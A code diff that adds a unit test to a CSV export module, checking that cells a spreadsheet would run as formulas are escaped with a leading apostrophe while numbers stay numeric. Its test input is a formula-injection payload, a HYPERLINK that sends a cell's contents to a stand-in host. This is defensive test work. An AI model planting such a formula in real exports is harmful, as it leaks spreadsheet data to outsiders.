@@ -97,6 +97,21 @@ describe('unit log', () => {
     expect(unitsToCsv(got.records)).toContain('FAIL,VERIFY_MISMATCH,differs,,,,');
   });
 
+  it('text that a spreadsheet would run as a formula is exported as text; numbers stay numbers', () => {
+    const evil = '=HYPERLINK("http://x.example/?d="&A1,"click")';
+    const r = record(3, { station: evil, serial: '+SN3', result: 'FAIL', error: { code: 'DFU_STATUS', message: '@SUM(1+1)' } });
+    const csv = unitsToCsv([r]);
+    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?d=""&A1,""click"")"`);
+    expect(csv).toContain(`,'+SN3,`);
+    expect(csv).toContain(`,'@SUM(1+1),`);
+    expect(csv).not.toMatch(/(^|,)[=+@]/m);
+    for (const lead of ['=', '+', '-', '@', '\t']) expect(csvField(`${lead}1`)).toBe(`'${lead}1`);
+    expect(csvField('\r1')).toBe(`"'\r1"`);
+    // A number is not text from a device or an operator: a negative number stays a number.
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField('a-b=c')).toBe('a-b=c');
+  });
+
   it('an unwritable log is a FILE_ERROR naming the file', () => {
     const dir = mkdtempSync(join(tmpdir(), 'bb-log-'));
     writeFileSync(join(dir, 'file'), '');
